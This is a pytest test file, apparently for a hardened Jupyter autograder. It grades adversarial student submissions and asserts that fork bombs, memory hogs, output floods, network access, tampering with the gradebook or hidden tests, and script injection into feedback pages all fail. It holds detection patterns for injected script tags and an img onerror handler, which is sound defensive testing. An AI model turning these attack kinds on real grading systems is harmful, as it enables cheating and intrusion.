    return sorted(found)


def _grades(db_url: str) -> dict[str, dict[str, tuple]]:
    """Per student and graded cell: (score, auto_score, manual_score, needs_manual_grade)."""
    found: dict[str, dict[str, tuple]] = {}
    with Gradebook(db_url) as gb:
        for student in STUDENTS:
            try:
                notebook = gb.find_submission_notebook(LAB, LAB, student)
            except Exception:  # not graded at all
                found[student] = {}
                continue
            found[student] = {grade.name: (grade.score, grade.auto_score, grade.manual_score,
                                           grade.needs_manual_grade)
                              for grade in notebook.grades}
    return found


# The round runs as on a grading machine whose memory is meant for grading: all of it under one
# cap that an honest round stays well inside, each submission's grading under a smaller one.
SUBMISSION_MEMORY = 1 << 30
ROUND_MEMORY = 1536 << 20 if kind_here() != "rlimit" else 0
# nbgrader's own command, saying at its end how large its own process grew
MEASURED = ("import atexit, resource, sys\n"
            "atexit.register(lambda: print('GRADER_MAX_RSS_KIB', resource.getrusage("
            "resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr))\n"
            "sys.argv[0] = 'nbgrader'\n"
            "from nbgrader.apps.nbgraderapp import main\n"
            "main()\n")


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Round:
    folder = tmp_path_factory.mktemp("autograde-attacks")
    course, nbgrader = round_course(folder, LAB, STUDENTS)
    with open(course / "nbgrader_config.py", "a", encoding="utf-8") as config:
        config.write(f"\nc.ScoredOutside.memory_limit = {SUBMISSION_MEMORY}\n")

    listener = Listener()
    values = {"COURSE": str(course), "ROUND": str(folder), "MARK": MARK,
              "SLEEP_MARK": SLEEP_MARK, "BOMB_MARK": BOMB_MARK, "INSTRUCTOR": INSTRUCTOR,
              "PORT": str(listener.port), "ADDRESSES": repr(_addresses()),
              "TESTS_MODULE": LESSON.tests, "TEST_NAMES": repr(TEST_NAMES)}
    released = nbformat.read(course / "release" / LAB / f"{LAB}.ipynb", as_version=4)
    for student in STUDENTS:
        where = course / "submitted" / student / LAB
        where.mkdir(parents=True)
        links = ATTACKS.get(student, Attack()).links
        if f"{LAB}.ipynb" not in links:
            nbformat.write(_submission(released, student, values), where / f"{LAB}.ipynb")
        for name, target in links.items():
            (where / name).symlink_to(_fill(target, values))
        for name, text in ATTACKS.get(student, Attack()).files.items():
            (where / name).parent.mkdir(parents=True, exist_ok=True)
            (where / name).write_text(_fill(text, values), encoding="utf-8")

    db = course / "gradebook.db"
    watched = {"nbgrader_config.py": course / "nbgrader_config.py",
               "checkout nbgrader_config.py": COURSE / "nbgrader_config.py"}
    hashes_before = {name: hashlib.sha256(path.read_bytes()).hexdigest()
                     for name, path in watched.items()}
    hashes_before.update(_hashes(course / "submitted"))

    report = folder / "left-over.json"
    kept = keep_arguments(folder)
    try:
        done = subprocess.run(
            ["unshare", "--mount", "--propagation", "private", sys.executable,
             str(HERE / "private_tmp.py"), *kept, "--report", str(report),
             "--memory", str(ROUND_MEMORY), "--", sys.executable, "-c", MEASURED, "autograde",
             LAB],
            cwd=course, env=nbgrader.environment(), capture_output=True, text=True,
            stdin=subprocess.DEVNULL, timeout=600)
        db_after = db.read_bytes()
        time.sleep(WAIT_AFTER)
        db_later = db.read_bytes()
        processes = _marked_processes()
    finally:
        listener.close()
    hashes_after = {name: hashlib.sha256(path.read_bytes()).hexdigest()
                    for name, path in watched.items()}
    hashes_after.update(_hashes(course / "submitted"))
    grades = _grades(f"sqlite:///{db}")
    feedback = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", LAB],
                              cwd=course, env=nbgrader.environment(), capture_output=True,
                              text=True, stdin=subprocess.DEVNULL, timeout=600)
    measured = json.loads(report.read_text()) if report.exists() else {
        "left_over": [["<no report>", -1, 0]], "max_rss_kib": -1, "ran_out": True,
        "cgroups_left": ["<no report>"]}
    own = re.findall(r"^GRADER_MAX_RSS_KIB (\d+)$", done.stderr, re.M)
    return Round(folder, course, done.returncode, done.stdout + done.stderr,
                 feedback.returncode, feedback.stdout + feedback.stderr, measured["left_over"],
                 measured["max_rss_kib"], measured["ran_out"], measured["cgroups_left"],
                 int(own[-1]) if own else -1,
                 db_after,
                 db_later, hashes_before, hashes_after, processes, listener.received, grades)


# -- which attacks work (each is explained in the reason) ------------------------------------
# An attack that is found to work is added to these with the grader file and line
# it goes through, and its tests are marked xfail(strict=True) until the hole is closed.

SCORE_WORKS: dict[str, str] = {}
BREACH_WORKS: dict[str, str] = {}
HELD_BACK_WORKS: dict[str, str] = {}
PAGE_WORKS: dict[str, str] = {}
SIZE_WORKS: dict[str, str] = {}
VICTIM_WORKS: dict[str, str] = {}
TMP_WORKS: dict[str, str] = {}
MEMORY_WORKS: dict[str, str] = {}


def _param(student: str, works: dict[str, str]):
    reason = works.get(student)
    return pytest.param(student, marks=pytest.mark.xfail(strict=True, reason=reason)) \
        if reason else student


# -- scores ---------------------------------------------------------------------------------

def test_the_round_ran(graded):
    assert "Autograding" in graded.autograde_log, graded.autograde_log[-3000:]
    assert graded.grades["honest_starter"], graded.autograde_log[-3000:]


def test_the_reference_keeps_full_marks(graded):
    cells = graded.grades["reference"]
    assert {name: grade[0] for name, grade in cells.items()} == POINTS
    assert not any(grade[3] for grade in cells.values())


def test_the_untouched_starter_scores_nothing(graded):
    assert {name: grade[0] for name, grade in graded.grades["honest_starter"].items()} == \
        dict.fromkeys(POINTS, 0.0)


@pytest.mark.parametrize("student", [_param(s, SCORE_WORKS) for s in sorted(ATTACKS)])
def test_an_attack_scores_no_more_than_its_code_earns(graded, student):
    """Every attacker's code is the starter's, which earns 0 on every graded cell."""
    cells = graded.grades[student]
    assert set(cells) <= set(POINTS)
    for name, (score, auto, manual, _) in cells.items():
        assert not score and not auto and manual is None, (name, cells[name])


@pytest.mark.parametrize("student", [_param(VICTIM, VICTIM_WORKS)])
def test_a_submission_graded_after_an_attack_keeps_its_marks(graded, student):
    cells = graded.grades[student]
    assert {name: grade[0] for name, grade in cells.items()} == POINTS, \
        graded.outputs(student)[-2000:]


# -- what a submission may reach --------------------------------------------------------------

def test_the_gradebook_is_still_after_grading_and_no_manual_score_was_written(graded):
    assert graded.db_after == graded.db_later
    assert _grades(f"sqlite:///{graded.course / 'gradebook.db'}") == graded.grades
    assert not [(s, cell) for s, cells in graded.grades.items()
                for cell, grade in cells.items() if grade[2] is not None]


def test_the_configuration_and_every_submission_are_byte_identical(graded):
    assert graded.hashes_after == graded.hashes_before


def test_no_process_a_submission_started_outlives_grading(graded):
    assert graded.processes == []


def test_no_submission_reached_the_network(graded):
    assert graded.connections == []


def test_the_fork_bomb_hit_the_process_limit(graded):
    found = re.search(r"CHILDREN (\d+)", graded.outputs("u_fork_bomb"))
    assert found and int(found.group(1)) <= 256, graded.outputs("u_fork_bomb")[-2000:]


@pytest.mark.parametrize("student", [_param(s, BREACH_WORKS) for s in STUDENTS])
def test_no_attack_did_what_a_submission_must_never_do(graded, student):
    """An attack prints BREACH only when it read, wrote or reached what it must not."""
    assert "BREACH" not in graded.outputs(student)


def test_the_kernel_hunted_the_scorer_while_it_scored(graded):
    """The hunt ran to its end, so its lack of BREACH means something."""
    assert "hunted" in graded.outputs("z5_hunt_the_scorer")


@pytest.mark.parametrize("_", [_param("tmp", TMP_WORKS)])
def test_nothing_a_submission_wrote_outlives_its_grading(graded, _):
    assert [entry for entry in graded.left_over if entry[1] != 0] == []


# The largest resident size of any process of the autograde command: nbgrader (the root
# grader), every kernel and every scoring process (an honest round comes nowhere near it).
GRADER_MEMORY_KIB = 1_500_000


@pytest.mark.parametrize("_", [_param("memory", MEMORY_WORKS)])
def test_no_process_of_the_round_grew_past_a_bound(graded, _):
    """Measured on the autograde command's own process tree (private_tmp.py), whatever else
    this test run's process waited for before."""
    assert 0 < graded.max_rss_kib < GRADER_MEMORY_KIB


# -- the pages ------------------------------------------------------------------------------


@pytest.mark.parametrize("student", [_param(s, HELD_BACK_WORKS) for s in STUDENTS])
def test_no_page_shows_held_back_test_code(graded, student):
    assert HELD_BACK_LINES
    page, outputs = graded.page(student), graded.outputs(student)
    assert [line for line in HELD_BACK_LINES if line in page or line in outputs] == []
    assert "held_back=True" not in page and "BEGIN HIDDEN TESTS" not in page


@pytest.mark.parametrize("student", [_param(s, PAGE_WORKS) for s in STUDENTS
                                     if s not in OWN_CODE_IS_REFERENCE])
def test_no_page_shows_the_reference_solution(graded, student):
    assert REFERENCE_LINES
    page = graded.page(student)
    assert [line for line in REFERENCE_LINES if line in page] == []


@pytest.mark.parametrize("student", [_param(s, PAGE_WORKS) for s in STUDENTS])
def test_no_page_shows_another_students_code(graded, student):
    page = graded.page(student)
    assert [other for other in STUDENTS if other != student and secret(other) in page] == []


@pytest.mark.parametrize("student", [_param(s, SIZE_WORKS) for s in STUDENTS])
def test_every_autograded_notebook_and_page_stays_small(graded, student):
    for path in (graded.autograded(student), graded.feedback(student)):
        assert not path.exists() or path.stat().st_size < SIZE_CAP, path


def test_a_flood_of_output_is_cut(graded):
    assert NOTICE.split("{")[0] in graded.outputs("o_print_100mb")


def test_no_page_runs_a_submissions_script(graded):
    """A submission's HTML and JavaScript outputs land on its feedback page (and in the
    formgrader, in front of the instructor): they must not arrive there as live markup. (The
    attack's own code is on the page too, as escaped and highlighted text.)"""
    raw = graded.raw_page("x_html_injection")
    assert raw
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script\s*>", raw, re.S | re.I)
    assert [body for body in scripts if MARK in body] == []
    assert f"onerror=\"document.title='{MARK}-onerror'\"" not in raw
    assert not re.search(r"<img\b[^>]*\bonerror\s*=", raw, re.I)


# -- z7: around the walls ---------------------------------------------------------------------

def test_the_kernel_listened_while_the_grader_scored(graded):
    """The listener ran to its end, so its lack of the held-back inputs means something."""
    assert "listened" in graded.outputs("z7_lock_leak")


@pytest.mark.parametrize("student", STUDENTS)
def test_no_page_shows_what_a_held_back_test_handed_the_code(graded, student):
    page, outputs = graded.page(student), graded.outputs(student)
    assert [text for text in HELD_BACK_INPUTS if text in page or text in outputs] == []


@pytest.mark.parametrize("student", ["z8_error_flood", "z8_update_flood"])
def test_a_flood_of_errors_or_display_updates_is_weighed_and_cut(graded, student):
    assert NOTICE.split("{")[0] in graded.outputs(student)
    assert graded.autograded(student).stat().st_size < SIZE_CAP


def test_messages_of_odd_kinds_are_left_out_quietly(graded):
    """They stop nothing (the students after them are graded), and nbgrader's log neither holds
    them nor grows with them."""
    assert "sent odd" in graded.outputs("z9_odd_messages")
    assert len(graded.autograde_log) < 500_000
    assert "kkkkkkkkkk" not in graded.autograde_log


def test_a_submission_that_runs_out_of_memory_alone_is_not_graded(graded):
    """nbgrader keeps its cells, scoreless, waiting for a grader."""
    assert graded.grades["z9_memory_hog"]
    assert all(auto is None and manual for _, auto, _, manual in
               graded.grades["z9_memory_hog"].values())
    assert "not graded: its grading ran out of memory" in graded.autograde_log
    assert not graded.ran_out, "the round's own memory cap was reached"
    assert {name: grade[0] for name, grade in graded.grades[VICTIM].items()} == POINTS


def test_the_graders_own_process_stays_small_whatever_the_submissions_send(graded):
    """nbgrader's process holds each submission's outputs only once they are weighed and cut
    (in a control round it grows to about 150 MB)."""
    assert 0 < graded.grader_rss_kib < 400_000


def test_no_memory_cgroup_of_the_round_is_left(graded):
    """Each submission's cap goes with its grading, the killed one's too."""
    assert graded.cgroups_left == []

